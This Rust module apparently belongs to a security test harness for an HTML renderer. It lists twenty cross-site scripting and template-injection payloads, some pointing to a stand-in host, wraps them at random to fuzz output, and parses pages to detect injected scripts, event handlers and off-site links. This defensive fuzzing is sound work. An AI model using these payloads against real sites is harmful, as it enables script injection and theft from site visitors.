//! What attackers type (S11), and whether a page has become theirs: read by a parser that had no part in
//! writing it.

use crate::chance::Chance;
use crate::html::Document;

/// The word every vector carries: where it stands as an element or attribute, a script could run.
pub const MARK: &str = "x91";

const SHAPES: [&str; 20] = [
    "<script>x91()</script>",
    "\"><script src=//x91.example></script>",
    "'><img src=x onerror=x91()>",
    "<img src=x onerror=\"x91()\">",
    "<svg/onload=x91()>",
    "<svg><script>x91()</script></svg>",
    "</textarea><script>x91()</script>",
    "</title><script>x91()</script>",
    "<!--><script>x91()</script>-->",
    "<iframe srcdoc='<script>x91()</script>'></iframe>",
    "<a href=\"javascript:x91()\">x91</a>",
    "[x91](javascript:x91())",
    "![x91](https://x91.example/a.png)",
    "<style>@import '//x91.example'</style>",
    "<base href=//x91.example>",
    "<form action=//x91.example><button>x91</button></form>",
    "\" autofocus onfocus=x91() x=\"",
    "{{ 7 * 7 }}{% include \"x91\" %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=x91()>",
    "<a href=\"https://x91.example\" onclick=x91()>x91</a>",
];

/// A vector of the list, wrapped at random in what might let it through.
#[must_use]
pub fn vector(chance: &mut Chance) -> String {
    let shape = *chance.pick(&SHAPES);
    match chance.below(6) {
        0 => shape.to_owned(),
        1 => shape.to_uppercase(),
        2 => format!("</p></div>{shape}"),
        3 => format!("&lt;{}", shape.trim_start_matches('<')),
        4 => format!("<!--maille:slot-->{shape}"),
        _ => format!("a{shape}\u{a0}»"),
    }
}

/// Everything in a page that a vector could have become.
#[must_use]
pub fn theirs(source: &str) -> Vec<String> {
    let document = Document::parse(source);
    let mut found = Vec::new();
    for element in &document.elements {
        let name = element.name.as_str();
        let is_data = element.get("type") == Some("application/ld+json");
        let is_own = element.get("src").is_some_and(|src| src.starts_with('/') && !src.starts_with("//"));
        if name == "script" && !is_data && !is_own {
            found.push(format!("line {}: a script", element.line));
        }
        if ["iframe", "object", "embed", "base", "style", "frame"].contains(&name) {
            found.push(format!("line {}: <{name}>", element.line));
        }
        for (attribute, value) in &element.attributes {
            let value = value.trim().to_lowercase();
            let is_handler = attribute.starts_with("on") || attribute == "style" || attribute == "srcdoc";
            let is_code = value.starts_with("javascript:") || value.starts_with("data:text");
            let leads_away = ["src", "action", "href"].contains(&attribute.as_str())
                && (value.contains("//x91.") || value.contains("/x91.example"));
            if is_handler || is_code || leads_away || attribute.contains(MARK) {
                found.push(format!("line {}: {attribute}={value}", element.line));
            }
        }
    }
    found
}
